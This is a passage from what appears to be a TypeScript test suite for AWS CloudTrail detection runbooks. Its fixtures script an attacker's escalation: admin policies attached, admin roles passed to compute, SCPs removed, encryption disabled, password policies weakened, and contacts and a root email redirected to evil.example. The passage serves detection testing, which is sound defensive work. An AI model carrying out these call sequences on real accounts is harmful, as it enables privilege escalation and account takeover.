    call(MALLORY, 46, "cloudformation.amazonaws.com", "CreateStackSet", {
      stackSetName: "defaults",
      templateURL: "https://s3.amazonaws.com/b/t.yaml",
    }),
    call(MALLORY, 47, "cloudformation.amazonaws.com", "UpdateStackSet", {
      stackSetName: "defaults",
      usePreviousTemplate: true,
    }),
    call(MALLORY, 48, "glue.amazonaws.com", "CreateJob", {
      name: "etl",
      role: ADMIN_ROLE,
      command: { name: "glueetl", scriptLocation: "s3://b/x.py" },
    }),
    call(MALLORY, 49, "glue.amazonaws.com", "UpdateJob", {
      jobName: "nightly",
      jobUpdate: { role: ADMIN_ROLE, command: { name: "glueetl", scriptLocation: "s3://b/x.py" } },
    }),
    // 50: mallory attaching a policy to "MALLORY" (itself: IAM names ignore case); 51: bob put
    // in "ADMINS" (the Admins group)
    iam(MALLORY, 50, "AttachUserPolicy", {
      userName: "MALLORY",
      policyArn: "arn:aws:iam::aws:policy/IAMFullAccess",
    }),
    iam(MALLORY, 51, "AddUserToGroup", { groupName: "ADMINS", userName: "bob" }),
    // 52: a stack updated without a role (it runs under the stack's own); 53: a change set for
    // it; 54: a change set for a new stack without a role (the caller's own rights: not listed)
    call(MALLORY, 52, "cloudformation.amazonaws.com", "UpdateStack", {
      stackName: "web-app",
      templateURL: "https://s3.amazonaws.com/b/evil.yaml",
    }),
    call(MALLORY, 53, "cloudformation.amazonaws.com", "CreateChangeSet", {
      stackName: "web-app",
      changeSetName: "c1",
      templateURL: "https://s3.amazonaws.com/b/evil.yaml",
    }),
    call(MALLORY, 54, "cloudformation.amazonaws.com", "CreateChangeSet", {
      stackName: "fresh",
      changeSetName: "c2",
      changeSetType: "CREATE",
      templateURL: "https://s3.amazonaws.com/b/t.yaml",
    }),
  ];
  const step = (reports: RunReport[], id: string) => reports[0]!.steps.find((s) => s.id === id)!;
  const at = (m: number) => `2024-06-01T10:${String(m).padStart(2, "0")}:00Z`;
  const runbook = "runbooks/privilege-escalation.md";

  it("lists policies rewritten, identities moved into power and roles handed to compute, none of the ordinary", async () => {
    const reports = await onJune1(runbook, events);
    for (const s of reports[0]!.steps) expect(s.status, s.id).toBe("failed");
    expect(
      step(reports, "policies_rewritten").rows.map((r) => [r[0], r[1], r[3], r[4], r[5]]),
    ).toEqual([
      [at(1), MAL, POLICY, "v5", "all actions"],
      [at(2), MAL, POLICY, null, "iam:PassRole"],
      [at(4), MAL, POLICY, "v2", null],
      [at(5), ALICE.arn, "bob", "helper", "iam:*"],
      [at(6), MAL, "devs", "narrow", null],
      [at(7), MAL, "devs", "hop", "sts:AssumeRole"],
      [at(40), MAL, "bob", "all", "all actions"],
      [at(41), MAL, "devs", "p", "iam:PassRole"],
      [at(42), MAL, "devs", "q", "sts:AssumeRole"],
    ]);
    // the Logs Insights twin: the same records, without grants
    expect(step(reports, "policies_rewritten_insights").rows.map((r) => r[0])).toEqual(
      [1, 2, 4, 5, 6, 7, 40, 41, 42].map((m) => at(m).replace("T", " ").replace("Z", ".000")),
    );
    expect(
      step(reports, "identities_moved_into_power").rows.map((r) => [r[0], r[3], r[4]]),
    ).toEqual([
      [at(10), "own permissions", "mallory"],
      [at(11), "added to a powerful group", "bob"],
      [at(13), "own permissions", "mallory"],
      [at(14), "permissions boundary removed", "bob"],
      [at(15), "own permissions", "dev-sandbox"],
      [at(43), "permissions boundary removed", "bob"],
      [at(50), "own permissions", "MALLORY"],
      [at(51), "added to a powerful group", "bob"],
    ]);
    expect(step(reports, "identities_moved_into_power_insights").rowCount).toBe(8);
    expect(step(reports, "roles_passed_to_compute").rows.map((r) => [r[0], r[4], r[5]])).toEqual([
      [at(18), "i-0123456789abcdef0", "prod-admin"],
      [
        at(19),
        "iip-assoc-0123456789abcdef0",
        "arn:aws:iam::123456789012:instance-profile/prod-admin",
      ],
      [at(20), "web", "prod-admin"],
      [at(21), "scratch", ADMIN_ROLE],
      [at(23), "scratch", ADMIN_ROLE],
      [at(24), "shared", null],
      [at(26), "scratch", ADMIN_ROLE],
      [at(27), "research", null],
      [at(32), "scratch", null],
      [at(33), "df-0123456789", null],
      [at(34), "df-0123456789", null],
      [at(37), "i-0fedcba9876543210", "prod-admin"],
      [at(45), "everywhere", ADMIN_ROLE],
      [at(46), "defaults", null],
      [at(48), "etl", ADMIN_ROLE],
      [at(49), "nightly", ADMIN_ROLE],
      [at(52), "web-app", null],
      [at(53), "web-app", null],
    ]);
    expect(step(reports, "roles_passed_to_compute_insights").rowCount).toBe(17);
    expectTruth(reports, events, PRIVILEGE_STEPS);
  });

  it("leaves CodeBuild to build-and-registry, which lists the project, the build and the role", async () => {
    const reports = await onJune1("runbooks/build-and-registry.md", events);
    expect(step(reports, "builds_hijacked").rows.map((r) => [r[0], r[3], r[4]])).toEqual([
      [at(28), "scratch", "project role set"],
      [at(30), "web-app", "build with its own buildspec"],
      [at(31), "web-app", "project role set"],
    ]);
    expect(step(reports, "builds_hijacked_insights").rowCount).toBe(3);
    expectTruth(reports, events, BUILD_STEPS);
  });

  it("moves its verdicts with the automation and admin-group patterns", async () => {
    // mallory made the automation, only "devs" a powerful group
    const tuned = await onJune1(runbook, events, [
      ...["--param", "automation_pattern=:user/mallory$"],
      ...["--param", "admin_groups_pattern=^devs$"],
    ]);
    expect(step(tuned, "policies_rewritten").rows.map((r) => [r[0], r[1]])).toEqual([
      [at(0), CI],
      [at(5), ALICE.arn],
    ]);
    expect(step(tuned, "policies_rewritten_insights").rowCount).toBe(2);
    expect(step(tuned, "identities_moved_into_power").rows.map((r) => [r[0], r[3]])).toEqual([
      [at(15), "own permissions"],
    ]);
    expect(step(tuned, "identities_moved_into_power_insights").rowCount).toBe(1);
    expect(step(tuned, "roles_passed_to_compute").rows.map((r) => [r[0], r[1]])).toEqual([
      [at(35), CI],
    ]);
    expect(step(tuned, "roles_passed_to_compute_insights").rowCount).toBe(1);
    expectTruth(tuned, events, PRIVILEGE_STEPS);
    // with the defaults but any group powerful: bob's and mallory's moves into devs too
    const wide = await onJune1(runbook, events, ["--param", "admin_groups_pattern=."]);
    expect(step(wide, "identities_moved_into_power").rows.map((r) => [r[0], r[3]])).toEqual([
      [at(10), "own permissions"],
      [at(11), "added to a powerful group"],
      [at(12), "added to a powerful group"],
      [at(13), "own permissions"],
      [at(14), "permissions boundary removed"],
      [at(15), "own permissions"],
      [at(43), "permissions boundary removed"],
      [at(50), "own permissions"],
      [at(51), "added to a powerful group"],
    ]);
    expectTruth(wide, events, PRIVILEGE_STEPS);
  });
});

describe("account-guardrails on the organization and account shapes the data sets lack", () => {
  /*
   * The shapes: requests as CloudTrail records AWS API requests, the API's member names in lower
   * camel case. AWS Organizations API Reference: DetachPolicy and AttachPolicy (policyId,
   * targetId), DeletePolicy (policyId), UpdatePolicy (policyId, name, description, content: the
   * policy as JSON text), DisablePolicyType and EnablePolicyType (rootId, policyType),
   * RemoveAccountFromOrganization (accountId), CreateAccount and CreateGovCloudAccount (email,
   * accountName, roleName; the response's createAccountStatus.id car-..., state IN_PROGRESS),
   * InviteAccountToOrganization (target.id, target.type ACCOUNT | EMAIL), LeaveOrganization (no
   * parameters), RegisterDelegatedAdministrator (accountId, servicePrincipal),
   * EnableAWSServiceAccess (servicePrincipal); the CreateAccountResult service event
   * (serviceEventDetails.createAccountStatus: id, accountId, accountName, state) as Panther's
   * Standard.NewAWSAccountCreated record has it, no userIdentity arn. IAM API Reference:
   * UpdateAccountPasswordPolicy (minimumPasswordLength, passwordReusePrevention,
   * requireSymbols, ...), DeleteAccountPasswordPolicy. AWS Account Management API Reference:
   * PutAlternateContact (accountId, alternateContactType SECURITY | BILLING | OPERATIONS,
   * emailAddress, name, phoneNumber, title), DeleteAlternateContact, PutContactInformation
   * (contactInformation), StartPrimaryEmailUpdate and AcceptPrimaryEmailUpdate (accountId,
   * primaryEmail, otp), GetAlternateContact. Amazon EC2 API Reference: ModifyEbsDefaultKmsKeyId
   * (KmsKeyId, which EC2's CloudTrail records wrap in ModifyEbsDefaultKmsKeyIdRequest),
   * ResetEbsDefaultKmsKeyId, EnableEbsEncryptionByDefault; DisableEbsEncryptionByDefault as
   * Panther's AWS.EC2.EBS.Encryption.Disabled True record (events.jsonl line 95), which has no
   * eventTime (one is given, nothing else changes) and no userIdentity.
   */
  const MAL = MALLORY.arn;
  const TF = {
    type: "AssumedRole",
    principalId: "AROAEXAMPLETERRAFORM:tf-run",
    arn: "arn:aws:sts::123456789012:assumed-role/terraform-automation/tf-run",
    accountId: "123456789012",
  };
  const CT = {
    type: "AssumedRole",
    principalId: "AROAEXAMPLECONTROLTWR:AWSControlTowerAdmin",
    arn: "arn:aws:sts::123456789012:assumed-role/AWSControlTowerAdmin/AWSControlTowerAdmin",
    accountId: "123456789012",
    invokedBy: "controltower.amazonaws.com",
  };
  const org = "organizations.amazonaws.com";
  const iam = "iam.amazonaws.com";
  const acct = "account.amazonaws.com";
  const ec2 = "ec2.amazonaws.com";
  const call = (
    who: Record<string, unknown>,
    i: number,
    source: string,
    name: string,
    request: Record<string, unknown> | null,
    extra: Record<string, unknown> = {},
  ) => crafted(i, who, source, name, request, { readOnly: false, ...extra });
  const scp = (effect: string) =>
    JSON.stringify({
      Version: "2012-10-17",
      Statement: [
        {
          Effect: effect,
          Action: effect === "Deny" ? "cloudtrail:StopLogging" : "*",
          Resource: "*",
        },
      ],
    });
  const requested = (id: string) => ({
    responseElements: { createAccountStatus: { id, state: "IN_PROGRESS", accountName: "x" } },
  });
  const result = (i: number, id: string, accountId: string, state: string) =>
    ({
      eventVersion: "1.08",
      userIdentity: { accountId: "123456789012", invokedBy: "AWS Internal" },
      eventTime: `2024-06-01T10:${String(i).padStart(2, "0")}:30Z`,
      eventSource: org,
      eventName: "CreateAccountResult",
      awsRegion: "us-east-1",
      sourceIPAddress: "AWS Internal",
      userAgent: "AWS Internal",
      requestParameters: null,
      responseElements: null,
      eventID: `00000000-0000-0000-0000-2000000000${i}`,
      readOnly: false,
      eventType: "AwsServiceEvent",
      managementEvent: true,
      recipientAccountId: "123456789012",
      serviceEventDetails: {
        createAccountStatus: { id, state, accountName: "backup", accountId },
      },
      eventCategory: "Management",
    }) as Event;
  const strong = { minimumPasswordLength: 16, passwordReusePrevention: 24, requireSymbols: true };
  const KEY = "arn:aws:kms:eu-west-1:999988887777:key/1234abcd-12ab-34cd-56ef-1234567890ab";
  const events = [
    // 0: Terraform detaching an SCP (not listed); 1: detached by hand; 2: deleted; 3: rewritten
    // keeping a Deny; 4: rewritten to Allow * only; 5: renamed; 6: SCPs disabled on the root;
    // 7: attached, 8: a type enabled (neither listed: they narrow); 9: a refused detach (not
    // listed)
    call(TF, 0, org, "DetachPolicy", { policyId: "p-examplescp0", targetId: "ou-ab12-00000000" }),
    call(MALLORY, 1, org, "DetachPolicy", {
      policyId: "p-examplescp1",
      targetId: "ou-ab12-11111111",
    }),
    call(MALLORY, 2, org, "DeletePolicy", { policyId: "p-examplescp2" }),
    call(MALLORY, 3, org, "UpdatePolicy", { policyId: "p-examplescp3", content: scp("Deny") }),
    call(MALLORY, 4, org, "UpdatePolicy", { policyId: "p-examplescp4", content: scp("Allow") }),
    call(MALLORY, 5, org, "UpdatePolicy", { policyId: "p-examplescp5", name: "old-guardrails" }),
    call(MALLORY, 6, org, "DisablePolicyType", {
      rootId: "r-ab12",
      policyType: "SERVICE_CONTROL_POLICY",
    }),
    call(MALLORY, 7, org, "AttachPolicy", {
      policyId: "p-examplescp1",
      targetId: "ou-ab12-11111111",
    }),
    call(MALLORY, 8, org, "EnablePolicyType", { rootId: "r-ab12", policyType: "TAG_POLICY" }),
    call(
      MALLORY,
      9,
      org,
      "DetachPolicy",
      { policyId: "p-examplescp9", targetId: "r-ab12" },
      { errorCode: "AccessDeniedException", errorMessage: "denied" },
    ),
    // 10: a member removed; 11: an account asked for by hand, 12: its result (listed with the
    // new id); 13: Terraform's request, 14: its result (neither listed); 15: a failed result
    // (not listed); 16: a GovCloud account; 17: an outside account invited; 18: a delegated
    // administrator; 19: trusted access; 20: LeaveOrganization (data-exposure's: not listed)
    call(MALLORY, 10, org, "RemoveAccountFromOrganization", { accountId: "210987654321" }),
    call(
      MALLORY,
      11,
      org,
      "CreateAccount",
      {
        email: "aws-backup@evil.example",
        accountName: "backup",
        roleName: "OrganizationAccountAccessRole",
      },
      requested("car-mallory000001"),
    ),
    result(12, "car-mallory000001", "333344445555", "SUCCEEDED"),
    call(
      TF,
      13,
      org,
      "CreateAccount",
      { email: "sandbox-7@example.com", accountName: "sandbox-7" },
      requested("car-vended0000001"),
    ),
    result(14, "car-vended0000001", "444455556666", "SUCCEEDED"),
    result(15, "car-failed0000001", "555566667777", "FAILED"),
    call(MALLORY, 16, org, "CreateGovCloudAccount", {
      email: "gov@evil.example",
      accountName: "gov",
    }),
    call(MALLORY, 17, org, "InviteAccountToOrganization", {
      target: { id: "999988887777", type: "ACCOUNT" },
      notes: "join us",
    }),
    call(MALLORY, 18, org, "RegisterDelegatedAdministrator", {
      accountId: "999988887777",
      servicePrincipal: "guardduty.amazonaws.com",
    }),
    call(MALLORY, 19, org, "EnableAWSServiceAccess", { servicePrincipal: "ssm.amazonaws.com" }),
    call(MALLORY, 20, org, "LeaveOrganization", null),
    // 21: the password policy deleted; 22: length 8; 23: no reuse prevention; 24: strong (not
    // listed); 25: every member left out
    call(MALLORY, 21, iam, "DeleteAccountPasswordPolicy", null),
    call(MALLORY, 22, iam, "UpdateAccountPasswordPolicy", { ...strong, minimumPasswordLength: 8 }),
    call(MALLORY, 23, iam, "UpdateAccountPasswordPolicy", { minimumPasswordLength: 16 }),
    call(MALLORY, 24, iam, "UpdateAccountPasswordPolicy", strong),
    call(MALLORY, 25, iam, "UpdateAccountPasswordPolicy", {}),
    // 26: the security contact changed; 27: a member's billing contact deleted; 28: the contact
    // information; 29, 30: a member's root email; 31: a contact read (not listed)
    call(MALLORY, 26, acct, "PutAlternateContact", {
      alternateContactType: "SECURITY",
      emailAddress: "sec@evil.example",
      name: "Sec",
      phoneNumber: "+15555550100",
      title: "CISO",
    }),
    call(MALLORY, 27, acct, "DeleteAlternateContact", {
      accountId: "210987654321",
      alternateContactType: "BILLING",
    }),
    call(MALLORY, 28, acct, "PutContactInformation", {
      contactInformation: { fullName: "X", phoneNumber: "+15555550100", countryCode: "US" },
    }),
    call(MALLORY, 29, acct, "StartPrimaryEmailUpdate", {
      accountId: "210987654321",
      primaryEmail: "root@evil.example",
    }),
    call(MALLORY, 30, acct, "AcceptPrimaryEmailUpdate", {
      accountId: "210987654321",
      otp: "HIDDEN_DUE_TO_SECURITY_REASONS",
      primaryEmail: "root@evil.example",
    }),
    call(
      MALLORY,
      31,
      acct,
      "GetAlternateContact",
      { alternateContactType: "SECURITY" },
      { readOnly: true },
    ),
    // 32: Panther's record turning EBS encryption off; 33: another account's key made the
    // default, 34: reset to aws/ebs; 35: encryption turned on (not listed); 36: Terraform's
    // weak policy (not listed unless the automation pattern stops matching it)
    {
      awsRegion: "us-east-1",
      eventName: "DisableEbsEncryptionByDefault",
      eventSource: ec2,
      recipientAccountId: "123456789",
      sourceIPAddress: "1.2.3.4",
      userAgent: "Chrome Browser",
      eventTime: "2024-06-01T10:32:00Z",
    } as Event,
    call(
      MALLORY,
      33,
      ec2,
      "ModifyEbsDefaultKmsKeyId",
      { ModifyEbsDefaultKmsKeyIdRequest: { KmsKeyId: KEY } },
      { awsRegion: "eu-west-1" },
    ),
    call(
      MALLORY,
      34,
      ec2,
      "ResetEbsDefaultKmsKeyId",
      { ResetEbsDefaultKmsKeyIdRequest: "" },
      {
        awsRegion: "eu-west-1",
      },
    ),
    call(MALLORY, 35, ec2, "EnableEbsEncryptionByDefault", {
      EnableEbsEncryptionByDefaultRequest: "",
    }),
    call(TF, 36, iam, "UpdateAccountPasswordPolicy", { minimumPasswordLength: 8 }),
    // 37: a policy remembering 24 with no length, which the API sets to 6 (its default for
    // MinimumPasswordLength, not the 8 of an account with no policy)
    call(MALLORY, 37, iam, "UpdateAccountPasswordPolicy", {
      passwordReusePrevention: 24,
      requireSymbols: true,
    }),
    // 38: a member moved out of its guarded OU to the root; 39: Terraform moving one (not
    // listed); 40: a member closed
    call(MALLORY, 38, org, "MoveAccount", {
      accountId: "210987654321",
      sourceParentId: "ou-ab12-11111111",
      destinationParentId: "r-ab12",
    }),
    call(TF, 39, org, "MoveAccount", {
      accountId: "444455556666",
      sourceParentId: "r-ab12",
      destinationParentId: "ou-ab12-22222222",
    }),
    call(MALLORY, 40, org, "CloseAccount", { accountId: "210987654322" }),
    // 41: Control Tower's Account Factory asking for an account in the management account, as
    // AWSControlTowerAdmin (AWSControlTowerServiceRolePolicy grants it organizations:CreateAccount,
    // MoveAccount and EnableAWSServiceAccess for Config and CloudTrail), 42: the account created,
    // 43: moved into its OU, 44: Config given trusted access (none listed with the default
    // automation pattern)
    call(
      CT,
      41,
      org,
      "CreateAccount",
      { email: "aws+workload-9@example.com", accountName: "workload-9" },
      requested("car-controltower01"),
    ),
    result(42, "car-controltower01", "666677778888", "SUCCEEDED"),
    call(CT, 43, org, "MoveAccount", {
      accountId: "666677778888",
      sourceParentId: "r-ab12",
      destinationParentId: "ou-ab12-33333333",
    }),
    call(CT, 44, org, "EnableAWSServiceAccess", { servicePrincipal: "config.amazonaws.com" }),
    // 45: the security account no longer GuardDuty's delegated administrator; 46: Security
    // Hub's trusted access disabled
    call(MALLORY, 45, org, "DeregisterDelegatedAdministrator", {
      accountId: "999900001111",
      servicePrincipal: "guardduty.amazonaws.com",
    }),
    call(MALLORY, 46, org, "DisableAWSServiceAccess", {
      servicePrincipal: "securityhub.amazonaws.com",
    }),
    // 47: AWS's FullAWSAccess SCP attached to a quarantine OU it had been taken off; 48: the
    // same attachment refused, already there (not listed)
    call(MALLORY, 47, org, "AttachPolicy", {
      policyId: "p-FullAWSAccess",
      targetId: "ou-ab12-quarantn",
    }),
    call(
      MALLORY,
      48,
      org,
      "AttachPolicy",
      { policyId: "p-FullAWSAccess", targetId: "ou-ab12-11111111" },
      { errorCode: "DuplicatePolicyAttachmentException", errorMessage: "already attached" },
    ),
  ];
  const at = (m: number) => `2024-06-01T10:${String(m).padStart(2, "0")}:00Z`;
  const runbook = "runbooks/account-guardrails.md";
  const step = (reports: RunReport[], id: string) => reports[0]!.steps.find((s) => s.id === id)!;
  /** A step's rows without the address. */
  const rows = (reports: RunReport[], id: string) =>
    step(reports, id).rows.map((r) => r.slice(0, 6));

  it("lists the guardrails lifted, the accounts and trust changed and the settings weakened, none of the ordinary", async () => {
    const reports = await onJune1(runbook, events);
    for (const s of reports[0]!.steps) expect(s.status, s.id).toBe("failed");
    expect(rows(reports, "guardrails_lifted")).toEqual([
      [at(1), MAL, "DetachPolicy", "ou-ab12-11111111", "policy detached", "p-examplescp1"],
      [at(2), MAL, "DeletePolicy", "p-examplescp2", "policy deleted", null],
      [at(3), MAL, "UpdatePolicy", "p-examplescp3", "policy rewritten", scp("Deny")],
      [at(4), MAL, "UpdatePolicy", "p-examplescp4", "policy rewritten, no Deny left", scp("Allow")],
      [at(5), MAL, "UpdatePolicy", "p-examplescp5", "policy renamed", null],
      [at(6), MAL, "DisablePolicyType", "r-ab12", "policy type disabled", "SERVICE_CONTROL_POLICY"],
      [at(47), MAL, "AttachPolicy", "ou-ab12-quarantn", "full access attached", "p-FullAWSAccess"],
    ]);
    expect(step(reports, "guardrails_lifted_insights").rowCount).toBe(7);
    expect(rows(reports, "organization_changed")).toEqual([
      [at(10), MAL, "RemoveAccountFromOrganization", "210987654321", "account removed", null],
      [
        at(11),
        MAL,
        "CreateAccount",
        "backup",
        "account creation requested",
        "aws-backup@evil.example",
      ],
      [
        "2024-06-01T10:12:30Z",
        null,
        "CreateAccountResult",
        "333344445555",
        "account created",
        "backup",
      ],
      [
        at(16),
        MAL,
        "CreateGovCloudAccount",
        "gov",
        "account creation requested",
        "gov@evil.example",
      ],
      [at(17), MAL, "InviteAccountToOrganization", "999988887777", "account invited", "ACCOUNT"],
      [
        at(18),
        MAL,
        "RegisterDelegatedAdministrator",
        "999988887777",
        "delegated administrator registered",
        "guardduty.amazonaws.com",
      ],
      [at(19), MAL, "EnableAWSServiceAccess", "ssm.amazonaws.com", "trusted access enabled", null],
      [
        at(38),
        MAL,
        "MoveAccount",
        "210987654321",
        "account moved",
        "from ou-ab12-11111111 to r-ab12",
      ],
      [at(40), MAL, "CloseAccount", "210987654322", "account closed", null],
      [
        at(45),
        MAL,
        "DeregisterDelegatedAdministrator",
        "999900001111",
        "delegated administrator deregistered",
        "guardduty.amazonaws.com",
      ],
      [
        at(46),
        MAL,
        "DisableAWSServiceAccess",
        "securityhub.amazonaws.com",
        "trusted access disabled",
        null,
      ],
    ]);
    // the twin: the calls, not the result it cannot match with the automation's request
    expect(step(reports, "organization_changed_insights").rowCount).toBe(10);
    expect(rows(reports, "settings_weakened")).toEqual([
      [at(21), MAL, "DeleteAccountPasswordPolicy", "123456789012", "password policy deleted", null],
      [
        at(22),
        MAL,
        "UpdateAccountPasswordPolicy",
        "123456789012",
        "password policy weakened",
        "length 8, remembers 24",
      ],
      [
        at(23),
        MAL,
        "UpdateAccountPasswordPolicy",
        "123456789012",
        "password policy weakened",
        "length 16, remembers 0",
      ],
      [
        at(25),
        MAL,
        "UpdateAccountPasswordPolicy",
        "123456789012",
        "password policy weakened",
        "length 6, remembers 0",
      ],
      [at(26), MAL, "PutAlternateContact", "123456789012", "alternate contact changed", "SECURITY"],
      [
        at(27),
        MAL,
        "DeleteAlternateContact",
        "210987654321",
        "alternate contact changed",
        "BILLING",
      ],
      [at(28), MAL, "PutContactInformation", "123456789012", "contact information changed", null],
      [
        at(29),
        MAL,
        "StartPrimaryEmailUpdate",
        "210987654321",
        "root email changed",
        "root@evil.example",
      ],
      [
        at(30),
        MAL,
        "AcceptPrimaryEmailUpdate",
        "210987654321",
        "root email changed",
        "root@evil.example",
      ],
      [
        at(32),
        null,
        "DisableEbsEncryptionByDefault",
        "us-east-1",
        "EBS encryption by default off",
        null,
      ],
      [at(33), MAL, "ModifyEbsDefaultKmsKeyId", "eu-west-1", "EBS default key changed", KEY],
      [at(34), MAL, "ResetEbsDefaultKmsKeyId", "eu-west-1", "EBS default key changed", null],
      [
        at(37),
        MAL,
        "UpdateAccountPasswordPolicy",
        "123456789012",
        "password policy weakened",
        "length 6, remembers 24",
      ],
    ]);
    expect(step(reports, "settings_weakened_insights").rowCount).toBe(13);
    expectTruth(reports, events, GUARDRAIL_STEPS);
  });

  it("moves its verdicts with the password length and the automation pattern", async () => {
    // a length of 8 allowed: the policy at minute 22 (8, remembers 24) goes, the others stay,
    // the one at minute 37 too (no length given: 6)
    const eight = await onJune1(runbook, events, ["--param", "min_password_length=8"]);
    const passwords = (r: RunReport[], id: string) =>
      step(r, id)
        .rows.filter((row) => row[2] === "UpdateAccountPasswordPolicy")
        .map((row) => row[0]);
    expect(passwords(eight, "settings_weakened")).toEqual([at(23), at(25), at(37)]);
    expect(step(eight, "settings_weakened_insights").rowCount).toBe(12);
    expectTruth(eight, events, GUARDRAIL_STEPS);
    // a length of 6 allowed: the policy at minute 37 (no length given, so 6, remembers 24) goes
    // from both twins alike
    const six = await onJune1(runbook, events, ["--param", "min_password_length=6"]);
    expect(passwords(six, "settings_weakened")).toEqual([at(23), at(25)]);
    expect(passwords(six, "settings_weakened_insights").sort()).toEqual([
      "2024-06-01 10:23:00.000",
      "2024-06-01 10:25:00.000",
    ]);
    expectTruth(six, events, GUARDRAIL_STEPS);
    // mallory made the automation: Terraform's calls are listed, and the account Terraform
    // asked for is listed as created while mallory's is not
    const tuned = await onJune1(runbook, events, ["--param", "automation_pattern=:user/mallory$"]);
    expect(rows(tuned, "guardrails_lifted")).toEqual([
      [at(0), TF.arn, "DetachPolicy", "ou-ab12-00000000", "policy detached", "p-examplescp0"],
    ]);
    expect(rows(tuned, "organization_changed")).toEqual([
      [
        at(13),
        TF.arn,
        "CreateAccount",
        "sandbox-7",
        "account creation requested",
        "sandbox-7@example.com",
      ],
      [
        "2024-06-01T10:14:30Z",
        null,
        "CreateAccountResult",
        "444455556666",
        "account created",
        "backup",
      ],
      [
        at(39),
        TF.arn,
        "MoveAccount",
        "444455556666",
        "account moved",
        "from r-ab12 to ou-ab12-22222222",
      ],
      [
        at(41),
        CT.arn,
        "CreateAccount",
        "workload-9",
        "account creation requested",
        "aws+workload-9@example.com",
      ],
      [
        "2024-06-01T10:42:30Z",
        null,
        "CreateAccountResult",
        "666677778888",
        "account created",
        "backup",
      ],
      [
        at(43),
        CT.arn,
        "MoveAccount",
        "666677778888",
        "account moved",
        "from r-ab12 to ou-ab12-33333333",
      ],
      [
        at(44),
        CT.arn,
        "EnableAWSServiceAccess",
        "config.amazonaws.com",
        "trusted access enabled",
        null,
      ],
    ]);
    expect(step(tuned, "settings_weakened").rows.map((r) => r[0])).toEqual([at(32), at(36)]);
    expectTruth(tuned, events, GUARDRAIL_STEPS);
  });
});

describe("outside-role-use on the assumption shapes the data sets lack", () => {
  /*
   * The shapes: the IAM User Guide's "Logging IAM and AWS STS API calls with AWS CloudTrail"
   * examples of AWS STS API events (AssumeRole by another account's principal, recorded as
   * userIdentity type AWSAccount with its accountId and principalId; AssumeRoleWithSAML by a
   * SAMLUser, the provider in requestParameters.principalArn and the assertion's issuer and
   * subject in responseElements; AssumeRoleWithWebIdentity by a WebIdentityUser, with
   * responseElements.provider, subjectFromWebIdentityToken and audience), and the CloudTrail
   * User Guide's userIdentity reference (identityProvider, userName of those users;
   * requestParameters.sourceIdentity from "AWS STS source identity"). GitHub Actions' subject
   * (repo:<owner>/<repo>:ref:refs/heads/<branch>) and audience (sts.amazonaws.com) are GitHub's
   * "Configuring OpenID Connect in Amazon Web Services"; an EKS cluster's provider
   * (oidc.eks.<region>.amazonaws.com/id/<id>) and subject (system:serviceaccount:<ns>:<name>)
   * the EKS User Guide's IRSA pages. The guarded roles' callers: the IAM User Guide's example
   * AssumeRole event (requestParameters roleArn, roleSessionName, sourceIdentity;
   * responseElements.assumedRoleUser) made by an IAMUser and by a role's session, whose
   * userIdentity is the CloudTrail userIdentity reference's AssumedRole one (arn
   * "arn:aws:sts::<account>:assumed-role/<role>/<session>", sessionContext.sessionIssuer the role,
   * with its path: Identity Center's roles under "aws-reserved/sso.amazonaws.com/"); the source
   * identity persisting through a role chain is "Monitor and control actions taken with assumed
   * roles".
   */
  const ROLE = (name: string) => `arn:aws:iam::123456789012:role/${name}`;
  const STS = "sts.amazonaws.com";
  const OIDC = (host: string) => `arn:aws:iam::123456789012:oidc-provider/${host}`;
  const GITHUB = OIDC("token.actions.githubusercontent.com");
  const EKS = OIDC("oidc.eks.us-east-1.amazonaws.com/id/EXAMPLED539D4633E53DE1B716D3041E");
  const SSO = "arn:aws:iam::123456789012:saml-provider/AWSSSO_0a1b2c3d4e5f6a7b_DO_NOT_DELETE";
  const SHIB = "arn:aws:iam::123456789012:saml-provider/Shibboleth";
  /** AssumeRole of `role` by `who`, a success unless `extra` says otherwise. */
  const assume = (
    i: number,
    who: Record<string, unknown>,
    role: string,
    session: string,
    extra: Record<string, unknown> = {},
    request: Record<string, unknown> = {},
  ) =>
    crafted(
      i,
      who,
      STS,
      "AssumeRole",
      { roleArn: ROLE(role), roleSessionName: session, durationSeconds: 3600, ...request },
      {
        readOnly: true,
        responseElements: {
          assumedRoleUser: { arn: `arn:aws:sts::123456789012:assumed-role/${role}/${session}` },
        },
        ...extra,
      },
    );
  const account = (id: string) => ({
    type: "AWSAccount",
    principalId: "AIDAQRSTUVWXYZEXAMPLE",
    accountId: id,
  });
  const web = (i: number, provider: string, subject: string, role: string, aud: string) =>
    crafted(
      i,
      {
        type: "WebIdentityUser",
        principalId: `${provider}:${aud}:${subject}`,
        userName: subject,
        identityProvider: provider,
      },
      STS,
      "AssumeRoleWithWebIdentity",
      { roleArn: ROLE(role), roleSessionName: "GitHubActions", durationSeconds: 3600 },
      {
        readOnly: true,
        sourceIPAddress: "20.42.0.17",
        responseElements: { provider, subjectFromWebIdentityToken: subject, audience: aud },
      },
    );
  const saml = (i: number, provider: string, issuer: string, subject: string, role: string) =>
    crafted(
      i,
      {
        type: "SAMLUser",
        principalId: `bdGOnTesti4+ExamplexL/jEvs=:${subject}`,
        userName: subject,
        identityProvider: "bdGOnTesti4+ExamplexL/jEvs=",
      },
      STS,
      "AssumeRoleWithSAML",
      { roleArn: ROLE(role), principalArn: provider, durationSeconds: 3600 },
      {
        readOnly: true,
        responseElements: {
          subjectType: "transient",
          issuer,
          subject,
          audience: "https://signin.aws.amazon.com/saml",
        },
      },
    );
  const repo = (name: string) => `repo:${name}:ref:refs/heads/main`;
  /** A session of `role` (its path before the name) of `accountId`, named `session`. */
  const session = (role: string, name: string, accountId = "123456789012") => {
    const roleName = role.split("/").pop();
    return {
      type: "AssumedRole",
      principalId: `AROAEXAMPLE${roleName!.length}ROLEID:${name}`,
      arn: `arn:aws:sts::${accountId}:assumed-role/${roleName}/${name}`,
      accountId,
      accessKeyId: "ASIAEXAMPLESESSION01",
      sessionContext: {
        sessionIssuer: {
          type: "Role",
          principalId: `AROAEXAMPLE${roleName!.length}ROLEID`,
          arn: `arn:aws:iam::${accountId}:role/${role}`,
          accountId,
          userName: roleName,
        },
        attributes: { creationDate: "2024-06-01T09:00:00Z", mfaAuthenticated: "false" },
      },
    };
  };
  const SSO_ADMIN = "aws-reserved/sso.amazonaws.com/AWSReservedSSO_AdministratorAccess_0a1b2c3d";
  const BOB = {
    ...MALLORY,
    principalId: "AIDAEXAMPLEBOBBOB001",
    arn: MALLORY.arn.replace("mallory", "bob"),
    userName: "bob",
  };
  const events = [
    // 0: another account's principal (AWSAccount) assuming prod-admin (listed); 1: a role
